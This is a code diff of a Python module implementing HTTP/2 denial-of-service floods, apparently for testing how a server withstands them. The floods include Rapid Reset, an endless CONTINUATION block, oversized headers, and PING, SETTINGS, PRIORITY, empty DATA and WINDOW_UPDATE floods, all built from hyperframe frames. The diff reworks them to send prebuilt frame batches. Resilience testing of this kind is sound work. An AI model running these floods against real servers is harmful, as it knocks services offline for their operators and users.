@@ -2,13 +2,16 @@
 
 from __future__ import annotations
 
+import itertools
 import random
 import socket
+from typing import Any, NamedTuple
 
 from attacker import SIMULATE, Attacker, block, call_headers, discard, message
 from hyperframe.frame import (
     ContinuationFrame,
     DataFrame,
+    Frame,
     HeadersFrame,
     PingFrame,
     PriorityFrame,
@@ -18,38 +21,56 @@ from hyperframe.frame import (
 )
 
 _CANCEL = 8
-_CHUNK = 100  # streams that go out in one piece
+_CHUNK = 100  # streams, or frames of the same kind, that go out in one piece
 _CALL = block(call_headers(SIMULATE))
+_STREAMS = 40_000  # of a connection, which then makes room for another
+
+
+class Piece(NamedTuple):
+    """What goes out at once."""
+
+    data: bytes
+    frames: int
+
+
+def piece(*frames: Frame) -> Piece:
+    """These frames, in this order."""
+    return Piece(b"".join(frame.serialize() for frame in frames), len(frames))
 
 
 class Flood(Attacker):
-    """Sends `piece` again and again on a connection that has done everything right so far."""
+    """Sends pieces, made beforehand, on connections that have done everything right so far."""
 
-    acknowledge = True
+    acknowledge = True  # the server's SETTINGS
+    first = b""  # what comes before the flood
+
+    def __init__(self, options: dict[str, Any]) -> None:
+        self.pieces = self.make(random.Random(options["seed"]))
+        super().__init__(options)
+
+    def make(self, draw: random.Random) -> list[Piece]:
+        """What each connection sends, in this order; over and over where there are no streams in it."""
+        raise NotImplementedError
 
     def once(self, number: int, draw: random.Random) -> None:
+        """Sends what there is, then holds the connection, unless it has used up its streams."""
         with self.connect_http2(self.acknowledge) as connection:
-            self.begin(connection)
-            stream, sent = 1, 0
-            while not self.over() and sent < self.options["frames"]:
-                piece, frames, streams = self.piece(stream, draw)
-                connection.sendall(piece)
+            connection.sendall(self.first)
+            ordered = self.pieces if len(self.pieces) > 1 else itertools.cycle(self.pieces)
+            sent = 0
+            for data, frames in ordered:
+                if self.over() or sent >= self.options["frames"]:
+                    break
+                connection.sendall(data)
                 discard(connection)
                 self.counts["frames"] += frames
                 sent += frames
-                stream += 2 * streams
-            if not self.over():
-                self.hold(connection)
+            else:
+                return
+            self._hold(connection)
 
-    def begin(self, connection: socket.socket) -> None:
-        """What comes before the flood."""
-
-    def piece(self, stream: int, draw: random.Random) -> tuple[bytes, int, int]:
-        """Bytes from this stream on, how many frames they are, how many streams they open."""
-        raise NotImplementedError
-
-    def hold(self, connection: socket.socket) -> None:
-        """Keeps the connection until the time is spent: the frames were all that is allowed."""
+    def _hold(self, connection: socket.socket) -> None:
+        """Keeps the connection until the time is spent."""
         while not self.over():
             connection.settimeout(0.1)
             try:
@@ -62,14 +83,18 @@ class Flood(Attacker):
 class RapidReset(Flood):
     """Opens calls and resets them at once, half of them with a message."""
 
-    def piece(self, stream: int, draw: random.Random) -> tuple[bytes, int, int]:
-        frames = []
-        for number in range(stream, stream + 2 * _CHUNK, 2):
-            frames.append(HeadersFrame(number, _CALL, flags=["END_HEADERS"]).serialize())
-            if draw.random() < 0.5:
-                frames.append(DataFrame(number, message(b"")).serialize())
-            frames.append(RstStreamFrame(number, _CANCEL).serialize())
-        return b"".join(frames), len(frames), _CHUNK
+    def make(self, draw: random.Random) -> list[Piece]:
+        """Some thousand pieces of some hundred frames."""
+        pieces = []
+        for first in range(1, 2 * _STREAMS, 2 * _CHUNK):
+            frames: list[Frame] = []
+            for stream in range(first, first + 2 * _CHUNK, 2):
+                frames.append(HeadersFrame(stream, _CALL, flags=["END_HEADERS"]))
+                if draw.random() < 0.5:
+                    frames.append(DataFrame(stream, message(b"")))
+                frames.append(RstStreamFrame(stream, _CANCEL))
+            pieces.append(piece(*frames))
+        return pieces
 
 
 class NeverAcknowledges(Flood):
@@ -77,72 +102,84 @@ class NeverAcknowledges(Flood):
 
     acknowledge = False
 
-    def piece(self, stream: int, draw: random.Random) -> tuple[bytes, int, int]:
-        numbers = range(stream, stream + 2 * _CHUNK, 2)
-        frames = [HeadersFrame(number, _CALL, flags=["END_HEADERS"]).serialize() for number in numbers]
-        return b"".join(frames), _CHUNK, _CHUNK
+    def make(self, draw: random.Random) -> list[Piece]:
+        """Calls that never end."""
+        return [
+            piece(
+                *(
+                    HeadersFrame(stream, _CALL, flags=["END_HEADERS"])
+                    for stream in range(first, first + 2 * _CHUNK, 2)
+                )
+            )
+            for first in range(1, 2 * _STREAMS, 2 * _CHUNK)
+        ]
 
 
 class Continuation(Flood):
     """A block of headers that never ends, in frames none of which is too large for itself."""
 
-    _HEADERS = block([(f"x-{number}", "a" * 1000) for number in range(6)])
-    _PIECE = ContinuationFrame(1, _HEADERS).serialize() * _CHUNK
+    first = HeadersFrame(1, _CALL).serialize()
 
-    def begin(self, connection: socket.socket) -> None:
-        connection.sendall(HeadersFrame(1, _CALL).serialize())
-
-    def piece(self, stream: int, draw: random.Random) -> tuple[bytes, int, int]:
-        return self._PIECE, _CHUNK, 0
+    def make(self, draw: random.Random) -> list[Piece]:
+        """6 KB in each frame."""
+        more = block([(f"x-{number}", "a" * 1000) for number in range(6)])
+        return [piece(*[ContinuationFrame(1, more)] * _CHUNK)]
 
 
 class HeaderFlood(Flood):
     """Calls with 60 KB of headers each, in frames that the server allows."""
 
-    def piece(self, stream: int, draw: random.Random) -> tuple[bytes, int, int]:
+    def make(self, draw: random.Random) -> list[Piece]:
+        """A call in each piece."""
         more = [(f"x-{number}", "a" * 1000) for number in range(60)]
         data = block(call_headers(SIMULATE, *more))
-        first = HeadersFrame(stream, data[:16_000]).serialize()
-        rest = [data[at : at + 16_000] for at in range(16_000, len(data), 16_000)]
-        frames = [ContinuationFrame(stream, part) for part in rest]
-        frames[-1].flags.add("END_HEADERS")
-        return first + b"".join(frame.serialize() for frame in frames), 1 + len(frames), 1
+        parts = [data[at : at + 16_000] for at in range(0, len(data), 16_000)]
+        pieces = []
+        for stream in range(1, 1_000, 2):
+            rest = [ContinuationFrame(stream, part) for part in parts[1:]]
+            rest[-1].flags.add("END_HEADERS")
+            pieces.append(piece(HeadersFrame(stream, parts[0]), *rest))
+        return pieces
 
 
 class Pings(Flood):
     """PING without end."""
 
-    def piece(self, stream: int, draw: random.Random) -> tuple[bytes, int, int]:
-        return PingFrame(0, draw.randbytes(8)).serialize() * _CHUNK, _CHUNK, 0
+    def make(self, draw: random.Random) -> list[Piece]:
+        """All of them alike."""
+        return [piece(*[PingFrame(0, draw.randbytes(8))] * _CHUNK)]
 
 
 class Settings(Flood):
     """SETTINGS without end, each of which is to be acknowledged."""
 
-    def piece(self, stream: int, draw: random.Random) -> tuple[bytes, int, int]:
-        return SettingsFrame(0, {4: 65_535}).serialize() * _CHUNK, _CHUNK, 0
+    def make(self, draw: random.Random) -> list[Piece]:
+        """A window that is the usual one."""
+        return [piece(*[SettingsFrame(0, {SettingsFrame.INITIAL_WINDOW_SIZE: 65_535})] * _CHUNK)]
 
 
 class Priorities(Flood):
     """PRIORITY for streams that are not there."""
 
-    def piece(self, stream: int, draw: random.Random) -> tuple[bytes, int, int]:
-        frame = PriorityFrame(1 + 2 * draw.randrange(10**6), stream_weight=1)
-        return frame.serialize() * _CHUNK, _CHUNK, 0
+    def make(self, draw: random.Random) -> list[Piece]:
+        """Each for another one."""
+        streams = [1 + 2 * draw.randrange(10**6) for _ in range(_CHUNK)]
+        return [piece(*(PriorityFrame(stream, stream_weight=1) for stream in streams))]
 
 
 class EmptyData(Flood):
     """DATA of no bytes on a call that never ends."""
 
-    def begin(self, connection: socket.socket) -> None:
-        connection.sendall(HeadersFrame(1, _CALL, flags=["END_HEADERS"]).serialize())
+    first = HeadersFrame(1, _CALL, flags=["END_HEADERS"]).serialize()
 
-    def piece(self, stream: int, draw: random.Random) -> tuple[bytes, int, int]:
-        return DataFrame(1).serialize() * _CHUNK, _CHUNK, 0
+    def make(self, draw: random.Random) -> list[Piece]:
+        """On its only stream."""
+        return [piece(*[DataFrame(1)] * _CHUNK)]
 
 
 class WindowUpdates(Flood):
     """Windows that grow by one byte at a time."""
 
-    def piece(self, stream: int, draw: random.Random) -> tuple[bytes, int, int]:
-        return WindowUpdateFrame(0, 1).serialize() * _CHUNK, _CHUNK, 0
+    def make(self, draw: random.Random) -> list[Piece]:
+        """That of the connection."""
+        return [piece(*[WindowUpdateFrame(0, 1)] * _CHUNK)]
